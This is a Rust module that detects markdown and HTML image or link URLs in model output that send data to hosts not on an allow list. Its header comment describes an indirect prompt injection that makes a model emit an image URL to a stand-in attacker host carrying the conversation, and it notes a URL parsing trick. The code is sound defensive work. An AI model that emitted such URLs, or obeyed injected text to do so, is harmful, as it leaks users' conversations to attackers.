//! Links and images that carry data to a host the operator did not allow.
//!
//! An indirect prompt injection (a web page, a document, a tool result) can make
//! the model answer with `![](https://attacker.example/p.png?d=<the conversation>)`:
//! the user's client fetches the image by itself and the data is gone. This
//! module finds markdown images and links (inline and reference definitions)
//! and HTML tags with a `src`/`href`, parses each URL as a browser would (the
//! WHATWG rules of the `url` crate, so `https://good.example\@evil.example`
//! and its kin resolve to the host a browser would call), and reports those
//! that leave the allowed hosts and carry data: a query, user information, or a
//! path segment or host label long enough to hold an encoded secret.

use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;
use url::{Host, Url};

use super::OutputConfigError;

/// Whether a client fetches the URL by itself or only when the user clicks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LinkKind {
    /// Fetched without a click: markdown images, `img`, `iframe`, media tags,
    /// and reference definitions an image may use.
    Image,
    /// Followed on a click: markdown links, `a`, `link`.
    Link,
}

impl LinkKind {
    /// The rule id a finding of this kind carries.
    pub fn rule_id(self) -> &'static str {
        match self {
            LinkKind::Image => "output.exfil.image",
            LinkKind::Link => "output.exfil.link",
        }
    }
}

/// A path segment or host label at least this long may carry an encoded secret.
const DATA_CHARS: usize = 32;

/// Hosts links may point to with data.
#[derive(Debug, Clone, Default)]
pub struct HostList {
    /// (host, whether subdomains match too), lowercased.
    hosts: Vec<(String, bool)>,
}

impl HostList {
    /// Compiles `example.com` / `*.example.com` entries.
    ///
    /// # Errors
    ///
    /// [`OutputConfigError::BadHost`] for an entry that is not a host name.
    pub fn new(entries: &[String]) -> Result<Self, OutputConfigError> {
        let mut hosts = Vec::with_capacity(entries.len());
        for entry in entries {
            let e = entry.trim().to_ascii_lowercase();
            let (name, subdomains) = match e.strip_prefix("*.") {
                Some(rest) => (rest.to_owned(), true),
                None => (e.clone(), false),
            };
            let valid = !name.is_empty()
                && name.len() <= 253
                && name.bytes().all(|b| {
                    b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':' | b'[' | b']')
                });
            if !valid {
                return Err(OutputConfigError::BadHost(entry.clone()));
            }
            hosts.push((name, subdomains));
        }
        Ok(HostList { hosts })
    }

    /// Whether `host` (lowercase) is allowed.
    pub fn allows(&self, host: &str) -> bool {
        self.hosts.iter().any(|(name, subdomains)| {
            host == name
                || (*subdomains
                    && host.len() > name.len()
                    && host.ends_with(name.as_str())
                    && host.as_bytes()[host.len() - name.len() - 1] == b'.')
        })
    }
}

static MARKDOWN_INLINE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(!?)\[[^\]\n]*\]\(\s*<?([^\s)>]+)").expect("static pattern"));
static MARKDOWN_REFERENCE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?m)^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?([^\s>]+)").expect("static pattern")
});
static HTML_TAG: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)<\s*(img|image|iframe|frame|source|video|audio|embed|object|input|track|a|link|area)\b[^>]*?\b(?:src|href|data|poster|srcset)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))"#,
    )
    .expect("static pattern")
});

/// The URLs in `text` that send data to a host `allowed` does not list, with
/// their kind and byte range.
pub fn find(text: &str, allowed: &HostList) -> Vec<(LinkKind, Range<usize>)> {
    // Cheap exit: every form needs `](`, `]:` or `<`.
    if !text.contains("](") && !text.contains("]:") && !text.contains('<') {
        return Vec::new();
    }
    let mut out = Vec::new();
    let mut check = |kind: LinkKind, m: regex::Match<'_>| {
        if carries_data_out(m.as_str(), allowed) {
            out.push((kind, m.range()));
        }
    };
    for c in MARKDOWN_INLINE.captures_iter(text) {
        let kind = if c.get(1).is_some_and(|m| !m.is_empty()) {
            LinkKind::Image
        } else {
            LinkKind::Link
        };
        if let Some(url) = c.get(2) {
            check(kind, url);
        }
    }
    let images_by_reference = text.contains("![");
    for c in MARKDOWN_REFERENCE.captures_iter(text) {
        let kind = if images_by_reference {
            LinkKind::Image
        } else {
            LinkKind::Link
        };
        if let Some(url) = c.get(1) {
            check(kind, url);
        }
    }
    for c in HTML_TAG.captures_iter(text) {
        let tag = c
            .get(1)
            .map(|m| m.as_str().to_ascii_lowercase())
            .unwrap_or_default();
        let kind = if matches!(tag.as_str(), "a" | "link" | "area") {
            LinkKind::Link
        } else {
            LinkKind::Image
        };
        if let Some(url) = c.get(2).or_else(|| c.get(3)).or_else(|| c.get(4)) {
            // srcset holds "url 1x, url 2x": the first URL is enough to judge.
            let first = url.as_str().split([' ', ',']).next().unwrap_or_default();
            if carries_data_out(first, allowed) {
                out.push((kind, url.range()));
            }
        }
    }
    out.sort_by_key(|(_, r)| (r.start, r.end));
    out.dedup_by(|a, b| a.1 == b.1);
    out
}

/// Whether `raw` is an absolute http(s) URL to a host not allowed that carries
/// data. Relative URLs stay on the page's own origin and are not reported.
fn carries_data_out(raw: &str, allowed: &HostList) -> bool {
    let raw = raw.trim_matches(|c: char| c == '<' || c == '>' || c == '"' || c == '\'');
    // HTML attribute values may spell the URL with entities.
    let decoded;
    let raw = if raw.contains('&') {
        decoded = raw
            .replace("&amp;", "&")
            .replace("&#x2F;", "/")
            .replace("&#47;", "/");
        decoded.as_str()
    } else {
        raw
    };
    let parsed = if raw.starts_with("//") {
        Url::parse(&format!("https:{raw}"))
    } else {
        Url::parse(raw)
    };
    let Ok(url) = parsed else {
        return false;
    };
    if !matches!(url.scheme(), "http" | "https") {
        return false;
    }
    let host = match url.host() {
        Some(Host::Domain(d)) => d.to_ascii_lowercase(),
        Some(Host::Ipv4(ip)) => ip.to_string(),
        Some(Host::Ipv6(ip)) => format!("[{ip}]"),
        None => return false,
    };
    if allowed.allows(&host) {
        return false;
    }
    let query = url.query().is_some_and(|q| !q.is_empty());
    let long_segment = url
        .path_segments()
        .is_some_and(|mut s| s.any(|seg| seg.len() >= DATA_CHARS));
    let long_label = host.split('.').any(|label| label.len() >= DATA_CHARS);
    let userinfo = !url.username().is_empty() || url.password().is_some();
    query || long_segment || long_label || userinfo
}
